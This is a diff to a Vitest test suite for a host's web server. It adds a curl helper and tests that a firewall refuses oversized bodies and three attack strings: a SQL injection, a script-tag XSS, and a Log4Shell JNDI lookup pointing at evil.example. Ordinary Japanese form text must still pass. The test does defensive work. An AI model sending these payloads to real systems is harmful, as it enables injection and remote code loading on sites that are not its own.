@@ -1,9 +1,10 @@
-import { spawnSync } from 'node:child_process'
+import { execFile, spawnSync } from 'node:child_process'
 import { rmSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { connect } from 'node:tls'
 import { setTimeout } from 'node:timers/promises'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { root } from './command.ts'
 import { edgeHost, publicName, staffName, type EdgeHost } from './edge-host.ts'
 
 /** An amount that nothing but the listener may see. */
@@ -16,7 +17,7 @@ describe('the web server of a host', { timeout: 60_000 }, () => {
     return running
   }
   beforeAll(async () => {
-    running = await edgeHost()
+    running = await edgeHost(root)
   }, 60_000)
   afterAll(() => running?.close())
 
@@ -52,16 +53,26 @@ describe('the web server of a host', { timeout: 60_000 }, () => {
     expect(await shakes('TLSv1.3', staffName)).toBe('refused')
   })
 
+  /** What comes back for a form, with its headers. */
+  const sent = (body: string, ...more: readonly string[]): Promise<string> => {
+    const to = ['--resolve', `${publicName}:${host().ports.tls}:127.0.0.1`]
+    const url = `https://${publicName}:${host().ports.tls}/t/999997/ja/no-script/`
+    const args = ['-ski', ...to, ...more, '--data-binary', '@-', url]
+    return new Promise((resolve) => {
+      const child = execFile('curl', args, (_, said) => resolve(said))
+      child.stdin?.on('error', () => undefined).end(body)
+    })
+  }
+
   it('promises TLS and names no program, whatever it answers', async () => {
     const { length } = host().seen
     const answers = [
       await host().ask(),
       await host().ask({ path: '/missing' }),
       await host().ask({ path: '/%zz' }),
-      await host().ask({ path: '/', body: 'x'.repeat(200_000) }),
       await host().ask({ headers: { 'x-long': 'x'.repeat(9000) } }),
     ]
-    expect(answers.map(({ status }) => status)).toEqual([200, 404, 400, 413, 400])
+    expect(answers.map(({ status }) => status)).toEqual([200, 404, 400, 400])
     for (const { headers, body } of answers) {
       expect(headers['strict-transport-security']).toContain('max-age=31536000')
       expect(headers['server']).toBeUndefined()
@@ -69,6 +80,10 @@ describe('the web server of a host', { timeout: 60_000 }, () => {
       expect(body).not.toMatch(/nginx/i)
     }
     expect(answers[3]?.body).toContain('このページは開けません')
+    // It is told before it sends all of it.
+    expect(await sent('x'.repeat(200_000), '-H', 'Expect: 100-continue')).toMatch(
+      /^HTTP\/[\d.]+ 413[\s\S]*このページは開けません/,
+    )
     expect(host().seen.length).toBe(length + 2)
   })
 
@@ -116,6 +131,26 @@ describe('the web server of a host', { timeout: 60_000 }, () => {
     expect(host().seen.at(-1)?.body).toContain(canary)
     await setTimeout(100)
     expect(host().filesWith(canary)).toEqual([])
+  })
+
+  it('lets no attack through to the listener, and every Japanese sentence', async () => {
+    const { length } = host().seen
+    for (const value of [
+      "1' OR '1'='1",
+      '<script>alert(1)</script>',
+      '${jndi:ldap://evil.example/a}',
+    ])
+      expect(await sent(`biko=${encodeURIComponent(value)}`)).toMatch(
+        /^HTTP\/[\d.]+ 403[\s\S]*このページは開けません/,
+      )
+    expect(host().seen.length).toBe(length)
+    for (const value of [
+      'select と書いてあるメニュー',
+      '収入 < 1,030,000円',
+      '（5％）です。',
+      'A&B株式会社',
+    ])
+      expect(await sent(`biko=${encodeURIComponent(value)}`)).toMatch(/^HTTP\/[\d.]+ 200/)
   })
 
   it('is open to staff on its own address alone', async () => {
